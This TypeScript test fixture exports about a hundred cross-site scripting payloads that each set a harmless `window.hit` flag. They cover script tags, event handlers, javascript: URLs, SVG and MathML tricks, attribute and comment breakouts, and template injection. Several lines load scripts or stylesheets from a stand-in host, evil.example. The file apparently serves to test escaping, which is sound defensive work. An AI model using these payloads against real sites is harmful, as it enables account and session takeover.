/**
 * A hundred texts that run in a page which forgets to show them as text: by tag, by handler, by address, by the borders
 * of attributes, comments and templates. Each would set `window.hit`; none is longer than a question may be.
 */
export const hostilePayloads: readonly string[] = String.raw`
<script>hit=1</script>
<ScRiPt>hit=1</sCrIpT>
<script src=//evil.example/x.js></script>
<script>hit=1//
<script/x>hit=1</script>
<script >hit=1</script >
<<script>hit=1//<</script>
<script type=module>globalThis.hit=1</script>
<script>eval(atob('aGl0PTE='))</script>
<scr<script>ipt>hit=1</scr</script>ipt>
<img src=x onerror=hit=1>
<img src=x onerror="hit=1">
<img src=x onerror='hit=1'>
<img/src=x/onerror=hit=1>
<img src=x:x onerror=hit=1>
<IMG SRC=x ONERROR=hit=1>
<img src=x onerror=&#104;it=1>
<img src="x" onerror=hit=1 alt='
<image src=x onerror=hit=1>
<img srcset=x onerror=hit=1>
<img src=javascript:hit=1>
<img src=data:image/svg+xml,%3Csvg/onload=hit=1%3E onerror=hit=1>
<svg onload=hit=1>
<svg/onload=hit=1>
<svg><script>hit=1</script></svg>
<svg><script href=data:,hit=1 />
<svg><animate onbegin=hit=1 attributeName=x dur=1s>
<svg><set onbegin=hit=1 attributeName=x>
<svg><a href=javascript:hit=1><text y=9>x</text></a></svg>
<svg><use href=data:image/svg+xml,<svg/onload=hit=1>>
<svg><foreignObject><iframe onload=hit=1></foreignObject></svg>
<svg><image href=x onerror=hit=1>
<svg><style><img src=x onerror=hit=1></style></svg>
<math><mtext><script>hit=1</script></mtext></math>
<math><a xlink:href=javascript:hit=1>x</a></math>
<body onload=hit=1>
<body onpageshow=hit=1>
<body onfocus=hit=1 tabindex=1>
<iframe src=javascript:hit=1></iframe>
<iframe onload=parent.hit=1></iframe>
<iframe srcdoc="<script>parent.hit=1</script>"></iframe>
<frameset onload=hit=1>
<object data=javascript:hit=1></object>
<object onerror=hit=1 data=x></object>
<embed src=javascript:hit=1>
<embed onload=hit=1 src=/>
<video src=x onerror=hit=1></video>
<video><source onerror=hit=1></video>
<audio src=x onerror=hit=1></audio>
<audio oncanplay=hit=1 src=data:,>
<video poster=javascript:hit=1></video>
<track onerror=hit=1 default src=x>
<input autofocus onfocus=hit=1>
<input type=image src=x onerror=hit=1>
<select autofocus onfocus=hit=1></select>
<textarea autofocus onfocus=hit=1></textarea>
<button autofocus onfocus=hit=1>x</button>
<keygen autofocus onfocus=hit=1>
<details open ontoggle=hit=1><summary>x</summary></details>
<dialog open onclose=hit=1>x</dialog>
<marquee onstart=hit=1>x</marquee>
<marquee loop=1 width=0 onfinish=hit=1>x</marquee>
<div onpointerover=hit=1>x</div>
<p onanimationstart=hit=1 style=animation:x>x</p>
<div style="background:url(javascript:hit=1)">x</div>
<a href=javascript:hit=1>x</a>
<a href="&#106;avascript:hit=1">x</a>
<a href="java&Tab;script:hit=1">x</a>
<a href=" javascript:hit=1">x</a>
<a href=data:text/html,<script>opener.hit=1</script>>x</a>
<a href=vbscript:hit=1>x</a>
<form action=javascript:hit=1><button autofocus>x</button></form>
<form><button formaction=javascript:hit=1>x</button></form>
<isindex type=image src=x onerror=hit=1>
<meta http-equiv=refresh content="0;url=javascript:hit=1">
<meta http-equiv=refresh content="0;url=data:text/html,x">
<base href=//evil.example/>
<link rel=stylesheet href=//evil.example/x.css>
<link rel=import href=data:text/html,<script>hit=1</script>>
<style>@import'//evil.example/x.css';</style>
<style onload=hit=1></style>
<template><script>hit=1</script></template>
<noscript><p title="</noscript><img src=x onerror=hit=1>">
<table background=javascript:hit=1><tr><td>x</table>
<xss onclick=hit=1 tabindex=1 autofocus onfocus=hit=1>x</xss>
"><script>hit=1</script>
'><img src=x onerror=hit=1>
" autofocus onfocus=hit=1 x="
' onmouseover=hit=1 x='
--><script>hit=1</script>
]]><script>hit=1</script>
</script><script>hit=1</script>
</title><svg onload=hit=1>
</textarea><img src=x onerror=hit=1>
</style><svg onload=hit=1>
{{constructor.constructor('hit=1')()}}
\${hit=1}#{hit=1}<%= hit=1 %>
&lt;script&gt;hit=1&lt;/script&gt;
\u003cscript\u003ehit=1\u003c/script\u003e
javascript:/*--></title></style></textarea></script><svg/onload=hit=1//
`
  .trim()
  .split('\n')
  .map((line) => line.replaceAll('\\$', '$'));
